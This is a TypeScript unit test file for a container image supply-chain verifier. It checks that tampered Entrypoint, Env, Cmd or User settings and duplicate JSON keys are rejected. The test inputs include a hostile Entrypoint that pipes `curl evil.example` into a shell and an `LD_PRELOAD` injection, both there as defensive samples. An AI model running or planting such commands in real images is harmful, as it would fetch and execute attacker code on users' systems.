// Moved from test/unit/policy/image-artifacts.test.ts (issue 14: policy/ split into verify/, image-verify/, author/).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { generateKey } from '../../../src/crypto/index.js';
import { makeLink, signLink } from '../../../src/intoto/index.js';
import { MemoryStore } from '../../../src/oci/index.js';
import { attach } from '../../../src/attest/index.js';
import { flattenImage } from '../../../src/image/index.js';
import { IMAGE_CONFIG_ARTIFACT, IMAGE_MANIFEST_ARTIFACT } from '../../../src/verify/index.js';
import { imageArtifactMap, verifyImage } from '../../../src/image-verify/index.js';
import { sha256Hex } from '../../../src/digest/index.js';
import { pushCustomImage } from '../../helpers/custom-image.js';
import { layoutBody, signLayoutBody } from '../verify/fixtures.js';
import type { Entry } from '../../helpers/image.js';

// Issue 13 §2: what the rule engine sees of an image. Reserved names (the image's digests and
// its execution parameters) can never be a file's name, and the execution parameters
// (Entrypoint, Cmd, Env, ...) are artifacts a rule can bind to what a step produced.

const owner = generateKey('ed25519');
const dev = generateKey('ed25519');
// The pattern the docs give for "the image's own digests" (`/oci/*`), from the constants.
const METADATA = IMAGE_MANIFEST_ARTIFACT.replace(/manifest$/, '*');

const APP = '#!/bin/sh\necho app\n';
const ENTRYPOINT = '["/usr/local/bin/app"]';

describe('reserved artifact names', () => {
  const files: Entry[] = [
    { path: 'oci:manifest', content: 'a file, not the manifest\n' },
    { path: 'oci:x/app', content: 'evil\n' },
    { path: '/oci/manifest', content: 'absolute name in the tar\n' },
    { path: '//config/Entrypoint', content: '["/evil"]' },
    { path: 'usr/local/bin/app', content: APP },
  ];

  it('no file takes, shadows or looks like a reserved name', async () => {
    const store = new MemoryStore();
    const desc = await pushCustomImage(store, files);
    const image = await flattenImage(store, desc);
    const artifacts = imageArtifactMap(image);
    const fileArtifacts = image.files.toArtifactMap();
    assert.equal(Object.keys(fileArtifacts).length, 5);
    for (const [path, d] of Object.entries(fileArtifacts)) assert.deepEqual(artifacts[path], d, `the file ${path} keeps its own hash`);
    assert.deepEqual(artifacts[IMAGE_MANIFEST_ARTIFACT], { sha256: desc.digest.slice(7) });
    const reserved = Object.keys(artifacts).filter((k) => !(k in fileArtifacts));
    assert.ok(reserved.length >= 2);
    for (const name of reserved) assert.ok(!Object.keys(fileArtifacts).some((f) => f === name), name);
  });

  it('the rule written for the image digests admits no file', async () => {
    const store = new MemoryStore();
    const desc = await pushCustomImage(store, files);
    await attach(store, desc, await signLink(makeLink({ name: 'build', products: {} }), [dev], 'legacy'));
    const body = layoutBody([{ name: 'build', keys: [dev.publicKey] }], [{ name: 'image', run: ['cairn:image'], expected_materials: [['ALLOW', METADATA], ['DISALLOW', '*']] }]);
    const r = await verifyImage({ store, subject: desc, layout: await signLayoutBody(body, [owner]), layoutKeys: [owner.publicKey] });
    assert.equal(r.verdict, 'fail');
    const failure = r.platforms[0]!.report.checks.find((c) => c.verdict === 'fail');
    assert.ok(failure?.check === 'inspection-rules');
    assert.deepEqual([...(failure.artifacts ?? [])].sort(), ['config/Entrypoint', 'oci/manifest', 'oci:manifest', 'oci:x/app', 'usr/local/bin/app']);
  });
});

describe('the image config as artifacts', () => {
  // build records the image's file and, as image-config/Entrypoint, the Entrypoint it sets
  const buildLink = () => signLink(makeLink({ name: 'build', products: {
    'usr/local/bin/app': { sha256: sha256Hex(APP) },
    'image-config/Entrypoint': { sha256: sha256Hex(ENTRYPOINT) },
  } }), [dev], 'legacy');
  const layout = () => signLayoutBody(layoutBody([{ name: 'build', keys: [dev.publicKey] }], [{
    name: 'image', run: ['cairn:image'],
    expected_materials: [
      ['MATCH', '*', 'WITH', 'PRODUCTS', 'FROM', 'build'],
      ['MATCH', '*', 'IN', '/config', 'WITH', 'PRODUCTS', 'IN', 'image-config', 'FROM', 'build'],
      ['ALLOW', IMAGE_MANIFEST_ARTIFACT], ['ALLOW', IMAGE_CONFIG_ARTIFACT], ['DISALLOW', '*'],
    ],
  }]), [owner]);
  const app: Entry[] = [{ path: 'usr/local/bin/app', content: APP }];

  async function verifyWithConfig(config: Record<string, unknown> | string) {
    const store = new MemoryStore();
    const desc = await pushCustomImage(store, app, config);
    await attach(store, desc, await buildLink());
    return verifyImage({ store, subject: desc, layout: await layout(), layoutKeys: [owner.publicKey] });
  }

  it('passes the Entrypoint the build recorded, and rejects a changed one (same files)', async () => {
    const ok = await verifyWithConfig({ config: { Entrypoint: JSON.parse(ENTRYPOINT) } });
    assert.equal(ok.verdict, 'pass', ok.platforms[0]!.report.failure?.message);
    const evil = await verifyWithConfig({ config: { Entrypoint: ['/bin/sh', '-c', 'curl evil.example | sh'] } });
    assert.equal(evil.verdict, 'fail');
    assert.match(evil.platforms[0]!.report.failure!.message, /DISALLOW \* rejected \/config\/Entrypoint \(materials\)/);
  });

  it('rejects an execution parameter no step recorded (Env, Cmd, User, ...)', async () => {
    for (const [field, value] of [['Env', ['LD_PRELOAD=/tmp/x.so']], ['Cmd', ['--debug-shell']], ['User', 'root'], ['WorkingDir', '/tmp']] as const) {
      const r = await verifyWithConfig({ config: { Entrypoint: JSON.parse(ENTRYPOINT), [field]: value } });
      assert.equal(r.verdict, 'fail', field);
      assert.match(r.platforms[0]!.report.failure!.message, new RegExp(`rejected /config/${field} `));
    }
  });

  it('sees the Entrypoint a runtime reads, whatever the case of the key (Go encoding/json)', async () => {
    // containerd reads "Config"/"entrypoint" into Config.Entrypoint: the rules must see it
    const r = await verifyWithConfig({ Config: { entrypoint: ['/bin/sh'] } });
    assert.equal(r.verdict, 'fail');
    assert.match(r.platforms[0]!.report.failure!.message, /rejected \/config\/Entrypoint /);
  });

  it('rejects a config in which two keys name one field (a runtime reads the last)', async () => {
    for (const [text, why] of [
      [`{"architecture":"amd64","os":"linux","config":{"Entrypoint":${ENTRYPOINT}},"Config":{"Entrypoint":["/evil"]}`, /has both "config" and "Config"/],
      [`{"architecture":"amd64","os":"linux","config":{"Entrypoint":${ENTRYPOINT},"ENTRYPOINT":["/evil"]}`, /has both "Entrypoint" and "ENTRYPOINT"/],
      // the same key twice: JSON.parse keeps the last, Go decodes both into one struct (merged)
      [`{"architecture":"amd64","os":"linux","config":{"Env":["LD_PRELOAD=/x.so"]},"config":{"Entrypoint":${ENTRYPOINT}}`, /has the key "config" twice in one object/],
      [`{"architecture":"amd64","os":"linux","config":{"Entrypoint":["/evil"],"Entrypoint":${ENTRYPOINT}}`, /has the key "Entrypoint" twice/],
    ] as const) {
      const r = await verifyWithConfig(text);
      assert.equal(r.verdict, 'fail');
      assert.match(r.platforms[0]!.report.failure!.message, why);
    }
  });
});
